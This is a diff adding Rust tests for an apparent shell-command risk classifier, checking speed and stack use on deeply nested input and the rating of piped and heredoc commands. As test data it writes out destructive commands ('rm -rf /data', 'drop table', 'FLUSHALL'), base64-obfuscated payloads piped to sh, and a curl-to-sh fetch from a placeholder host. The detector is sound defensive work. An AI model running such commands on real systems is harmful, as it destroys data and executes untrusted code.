@@ -201,3 +201,135 @@ fn r15_a_check_that_orders_a_change_is_none_and_what_no_table_knows_is_no_order(
         assert!(!changes_something(checks), "{checks}");
     }
 }
+
+/// Time for one hostile command, whatever its size; a debug build is about ten times slower than the
+/// program that runs.
+const HOSTILE_MS: u128 = 1_500;
+
+#[test]
+fn r16_hostile_commands_cost_neither_time_nor_stack() {
+    let nested = |open: &str, close: &str, size: usize| {
+        let times = size / (open.len() + close.len());
+        format!("{}rm -rf /data{}", open.repeat(times), close.repeat(times))
+    };
+    let mut cases: Vec<(String, String)> = Vec::new();
+    for size in [1000, 8 * 1000, 64 * 1024, 256 * 1024] {
+        for (open, close) in [
+            ("$(", ")"),
+            ("$(", ""),
+            ("(", ")"),
+            ("{ ", ";}"),
+            ("`", ""),
+            ("<(", ")"),
+            ("a $(b ", ")"),
+            ("a|", ""),
+            ("a;", ""),
+            ("a&&", ""),
+            ("!", ""),
+            ("if true; then ", "; fi"),
+            ("while a; do ", "; done"),
+            ("${a:-", "}"),
+            ("\"$(", ")\""),
+            ("((", "))"),
+            ("[[ ", " ]]"),
+            ("cat <<A | ", ""),
+            ("cat <<A\n", "\nA\n"),
+            ("sudo ", ""),
+            ("xargs -n1 ", ""),
+            ("echo a > b <c ", ""),
+            ("\\", ""),
+            ("'", ""),
+            ("f() { ", "; }"),
+            ("case a in a) ", ";; esac"),
+            ("cat | ", ""),
+            ("x=1 ", ""),
+            ("重启", ""),
+        ] {
+            cases.push((format!("{open:?} of {size}"), nested(open, close, size)));
+        }
+    }
+    // A stack as small as a thread's may be: depth must cost none of it.
+    let run = move || {
+        for (name, text) in cases {
+            let begun = std::time::Instant::now();
+            let read = of_command(&text);
+            let took = begun.elapsed().as_millis();
+            assert!(read >= Risk::Risky, "{name}: {read:?}");
+            assert!(took < HOSTILE_MS, "{name}: {took} ms");
+        }
+    };
+    std::thread::Builder::new()
+        .stack_size(256 * 1024)
+        .spawn(run)
+        .expect("a thread starts")
+        .join()
+        .expect("no command costs more stack");
+}
+
+#[test]
+fn r16_what_is_fed_is_what_runs() {
+    for (command, expected) in [
+        // The same client, fed with what reads and with what destroys.
+        ("psql <<'A'\nselect 1;\nA", Risk::ReadOnly),
+        ("psql <<'A'\nselect 1;\ndrop table a;\nA", Risk::Destructive),
+        ("psql <<< 'select 1'", Risk::ReadOnly),
+        ("echo 'select 1' | psql", Risk::ReadOnly),
+        (
+            "echo 'truncate a' | sudo -u postgres psql",
+            Risk::Destructive,
+        ),
+        (
+            "cat <<A | kubectl exec -i db -- psql\ndrop table a;\nA",
+            Risk::Destructive,
+        ),
+        (
+            "cat <<A | kubectl exec -i db -- psql\nselect 1;\nA",
+            Risk::ReadOnly,
+        ),
+        ("ssh db psql <<A\ndelete from a;\nA", Risk::Destructive),
+        ("ssh db <<A\nuptime\nA", Risk::ReadOnly),
+        ("ssh db 'bash -s' <<A\nrm -rf /data\nA", Risk::Destructive),
+        ("bash <<< 'rm -rf /data'", Risk::Destructive),
+        ("(echo a; echo rm -rf /data) | sh", Risk::Destructive),
+        ("printf 'GET a\\nINFO\\n' | redis-cli", Risk::ReadOnly),
+        ("printf '%s\\n' FLUSHALL | redis-cli", Risk::Destructive),
+        ("echo 'db.a.drop()' | mongosh app", Risk::Destructive),
+        ("echo /data | xargs rm -rf", Risk::Destructive),
+        ("echo delete pvc a | xargs kubectl", Risk::Destructive),
+        // What the script does not say is not known.
+        ("psql < a.sql", Risk::Risky),
+        ("cat a.sql | psql", Risk::Risky),
+        ("curl -s https://a.example | sh", Risk::Risky),
+        ("psql -f a.sql <<< 'select 1'", Risk::Risky),
+        // What is decoded before it runs is hidden.
+        ("echo cm0= | base64 -d | sh", Risk::Destructive),
+        ("sh -c \"$(echo cm0= | base64 -d)\"", Risk::Destructive),
+        ("eval \"$(base64 -d <<< cm0=)\"", Risk::Destructive),
+        ("bash <(base64 -d a)", Risk::Destructive),
+        ("pwsh -EncodedCommand cgBt", Risk::Destructive),
+        // Decoded to be looked at it is not.
+        (
+            "kubectl get secret a -o json | base64 -d | openssl x509 -noout -dates",
+            Risk::ReadOnly,
+        ),
+        // psql's own commands end with their line.
+        ("psql <<A\n\\dt\ndrop table a;\nA", Risk::Destructive),
+        ("psql -c '\\! rm -rf /data'", Risk::Destructive),
+    ] {
+        assert_eq!(of_command(command), expected, "{command}");
+    }
+    // What can't be parsed is looked at in its parts.
+    for (command, expected) in [
+        ("kubectl delete pvc a && (", Risk::Destructive),
+        ("ls | | rm -rf /data", Risk::Destructive),
+        ("echo 'open; rm -rf /data", Risk::Destructive),
+        ("ls | | wc", Risk::Risky),
+    ] {
+        assert_eq!(of_command(command), expected, "{command}");
+    }
+    // Wrapped more deeply than anybody wraps, and longer than anybody reads.
+    let deep = format!("{}uptime", "sudo ".repeat(9));
+    assert_eq!(of_command(&deep), Risk::Destructive);
+    let long = format!("echo {}; uptime", "a".repeat(9 * 1024));
+    assert_eq!(of_command(&long), Risk::Destructive);
+}
